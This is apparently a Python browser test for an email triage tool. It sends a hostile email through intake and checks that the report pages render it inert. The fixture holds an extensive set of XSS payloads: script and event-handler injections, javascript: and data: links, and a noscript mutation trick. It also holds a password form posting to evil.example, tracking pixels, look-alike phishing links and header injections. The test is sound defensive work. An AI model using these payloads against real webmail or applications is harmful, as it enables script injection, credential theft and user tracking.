"""Hostile email, opened by a triager in a real browser: nothing runs, nothing leaves.

Each message is stored and parsed as the SMTP receiver and the worker would (do_store_inbound,
do_process_inbound), then its report page and its "original email" page are opened in
Chromium. Every trick below would, if it worked, set ``window.pwned``, change the title, open
a dialog or fetch something from evil.example; the watch of conftest.py aborts and records any
request to another host, and any script error or policy refusal.
"""

from __future__ import annotations

from email.message import EmailMessage
from typing import Any

import pytest

from tapecut.intake.models import Report
from tapecut.intake.processing import do_process_inbound
from tapecut.intake.storing import do_store_inbound
from tapecut.triage.personas import make_user

pytestmark = [pytest.mark.slow, pytest.mark.django_db(transaction=True, serialized_rollback=True)]

HOSTILE_HTML = """<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/style.css">
<link rel="dns-prefetch" href="//prefetch.evil.example">
<style>@import url("https://evil.example/import.css");
body { background: url("https://evil.example/bg.png"); }</style>
<script>window.pwned = 1; document.title = "pwned"; alert("pwned");</script>
<script src="https://evil.example/x.js"></script>
</head>
<body onload="window.pwned = 2; document.title = 'pwned'">
<p>Dear team, the <b>travel form</b> needs three signatures.</p>
<img src="https://tracker.evil.example/pixel.gif?id=42" width="1" height="1">
<img src="x" onerror="window.pwned = 3; document.title = 'pwned'">
<img srcset="https://evil.example/srcset.png 2x">
<picture><source srcset="https://evil.example/picture.png"></picture>
<div style="background-image:url('https://evil.example/div.png'); position:fixed; top:0;
 left:0; width:100%; height:100%; z-index:9999">Overlay</div>
<p><a href="javascript:window.pwned=4;document.title='pwned'">Click for details</a></p>
<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Open the form</a></p>
<p><a href="vbscript:msgbox(1)">Old trick</a></p>
<p><a href="https://xn--pypal-4ve.com/login">https://paypal.com/login</a></p>
<p><a href="https://p\u0430ypal.com/account">Your account</a></p>
<p><a href="https://bank.evil.example/">www.mybank.example</a></p>
<p><a href="https://intranet.example/forms" ping="https://evil.example/ping">The form</a></p>
<p><a href="/accounts/logout/">Into Tapecut itself</a></p>
<form action="https://evil.example/steal" method="post"><input name="password">
<button>Send</button></form>
<iframe src="https://evil.example/frame"></iframe>
<iframe srcdoc="<script>parent.pwned = 5</script>"></iframe>
<object data="https://evil.example/object.swf"></object>
<embed src="https://evil.example/embed.swf">
<svg><script>window.pwned = 6</script><image href="https://evil.example/svg.png"/></svg>
<svg onload="window.pwned = 7"></svg>
<math><mi xlink:href="javascript:window.pwned=8">x</mi></math>
<video poster="https://evil.example/poster.png" src="https://evil.example/v.mp4"></video>
<audio src="https://evil.example/a.mp3" autoplay></audio>
<input type="image" src="https://evil.example/input.png">
<table background="https://evil.example/table.png"><tr>
<td background="https://evil.example/td.png">cell</td></tr></table>
<noscript><p title="</noscript><img src=x onerror=window.pwned=9>"></noscript>
<details open ontoggle="window.pwned = 10">details</details>
</body></html>"""

HOSTILE_TEXT = (
    "Dear team, the travel form needs three signatures.\n"
    "<script>window.pwned = 11; document.title = 'pwned'</script>\n"
    "<img src=https://tracker.evil.example/text.gif onerror=alert(1)>\n"
)
SVG_WITH_SCRIPT = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def hostile_email(to: str, n: int) -> bytes:
    msg = EmailMessage()
    msg["From"] = f'"<img src=x onerror=window.pwned=12>" <mallory{n}@corp.example>'
    msg["To"] = to
    msg["Subject"] = "<script>window.pwned = 13</script> Travel form"
    msg["Message-ID"] = f"<hostile-{n}@corp.example>"
    msg.set_content(HOSTILE_TEXT)
    msg.add_alternative(HOSTILE_HTML, subtype="html")
    msg.add_attachment(
        b"<script>alert(1)</script>", maintype="text", subtype="html", filename="invoice.html"
    )
    msg.add_attachment(SVG_WITH_SCRIPT, maintype="image", subtype="svg+xml", filename="chart.svg")
    return msg.as_bytes()


def arrive(to: str, n: int) -> Report:
    inbound, _new = do_store_inbound(
        hostile_email(to, n),
        channel="smtp",
        envelope_from=f"mallory{n}@corp.example",
        envelope_to=[to],
        enqueue=False,
    )
    do_process_inbound(inbound)
    return Report.objects.get(inbound=inbound)


def assert_nothing_ran(page: Any) -> None:
    assert page.evaluate("window.pwned") is None
    assert "pwned" not in page.title()


def check_links(page: Any) -> None:
    """Each remaining link names its real target; look-alikes are marked and in punycode."""
    links = page.locator(".original-html a")
    hrefs = [links.nth(i).get_attribute("href") for i in range(links.count())]
    assert sorted(hrefs) == sorted(
        [
            "https://xn--pypal-4ve.com/login",
            "https://xn--pypal-4ve.com/account",
            "https://bank.evil.example/",
            "https://intranet.example/forms",
        ]
    )
    for i in range(links.count()):
        shown = links.nth(i).locator("xpath=following-sibling::span[1]")
        assert shown.inner_text() == f"[{hrefs[i]}]"
        assert links.nth(i).get_attribute("ping") is None
    paypal = page.locator(".original-html a", has_text="https://paypal.com/login")
    assert paypal.locator("xpath=following-sibling::span[1]").get_attribute("data-mismatch")
    bank = page.locator(".original-html a", has_text="www.mybank.example")
    assert bank.locator("xpath=following-sibling::span[1]").get_attribute("data-mismatch")


def check_report_page(page: Any, report: Report) -> None:
    page.goto(f"/reports/{report.pk}/")
    page.wait_for_load_state("load")
    assert_nothing_ran(page)
    # What the sender wrote is shown as text: the tags are there to read, not to run.
    assert "<script>window.pwned = 11" in page.locator("pre.body").first.inner_text()
    assert (
        page.locator("h1").inner_text().endswith("<script>window.pwned = 13</script> Travel form")
    )


def check_attachments(page: Any, report: Report) -> None:
    """Attachments leave as downloads, never rendered, under a sandbox policy."""
    links = page.locator("a[download]", has_text="invoice.html")
    href = links.first.get_attribute("href")
    response = page.request.get(href)
    assert response.status == 200
    assert response.headers["content-disposition"].startswith("attachment")
    assert response.headers["content-type"] == "application/octet-stream"
    assert response.headers["content-security-policy"].startswith("sandbox")
    assert report.attachments.count() == 2


def check_original(page: Any, report: Report) -> None:
    page.goto(f"/reports/{report.pk}/original/")
    page.wait_for_load_state("load")
    assert_nothing_ran(page)
    html = page.locator(".original-html")
    assert "three signatures" in html.inner_text()
    for tag in ("script", "img", "iframe", "form", "svg", "object", "embed", "video", "style"):
        assert html.locator(tag).count() == 0, tag
    check_links(page)


def check_protected_original(page: Any, report: Report) -> None:
    """A protected report's original is a rebuilt text copy: no HTML, nobody's address."""
    page.goto(f"/reports/{report.pk}/original/")
    page.wait_for_load_state("load")
    assert_nothing_ran(page)
    assert page.locator(".original-html").count() == 0
    assert "<script>window.pwned = 11" in page.locator("pre.body").inner_text()
    assert "mallory" not in page.content()


@pytest.mark.parametrize("to", ["bureaucracy@corp.example", "anonymous@corp.example"])
def test_hostile_mail_runs_nothing_and_loads_nothing(
    browsing: Any, e2e_settings: Any, screenshot: Any, to: str
) -> None:
    n = 1 if to.startswith("bureaucracy") else 2
    report = arrive(to, n)
    assert report.mode == ("named" if n == 1 else "anonymous")
    page = browsing.page(make_user("tom", "triager"))
    check_report_page(page, report)
    check_attachments(page, report)
    if n == 1:
        check_original(page, report)
        screenshot(page, "original-email")
    else:
        check_protected_original(page, report)
    browsing.watch.assert_clean()
